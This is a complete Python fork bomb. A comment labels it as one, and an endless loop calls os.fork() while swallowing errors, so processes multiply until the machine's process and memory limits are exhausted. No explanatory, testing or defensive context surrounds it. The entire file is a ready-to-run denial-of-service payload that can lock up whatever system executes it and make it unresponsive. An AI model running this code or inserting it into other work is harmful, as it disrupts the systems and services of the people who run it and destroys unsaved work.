import os

# A fork bomb: every process forks for ever.
while True:
    try:
        os.fork()
    except OSError:
        pass
